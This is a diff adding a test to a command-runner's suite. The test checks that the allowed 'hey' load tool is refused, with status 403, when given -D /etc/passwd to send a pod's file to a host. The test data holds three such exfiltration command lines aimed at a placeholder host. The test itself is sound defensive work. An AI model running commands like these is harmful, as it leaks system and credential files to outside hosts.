@@ -317,6 +317,17 @@ describe('with programs that are allowed', () => {
     expect(await (await start({ allowed: ['echo', 'ghz'] })).run(type, cmd)).toEqual({ status, body });
   });
 
+  it.each([
+    'hey -n 1 -c 1 -D /etc/passwd http://a/',
+    'hey --D=/etc/passwd http://a/',
+    'echo a | hey -D /etc/passwd http://a/',
+  ])('hey sends no file of the pod: %s', async (cmd) => {
+    expect(await (await start({ allowed: ['echo', 'hey'] })).run('bash', cmd)).toEqual({
+      status: 403,
+      body: 'hey: -D sends a file, which --allow does not let it; write the body behind -d',
+    });
+  });
+
   it('they run without a shell', async () => {
     const tester = await start({ allowed: ['echo'] });
     expect(await tester.run('bash', `echo '$HOME; *' "a b"`, { metadata: { returnCmdOutput: 'true' } })).toEqual({
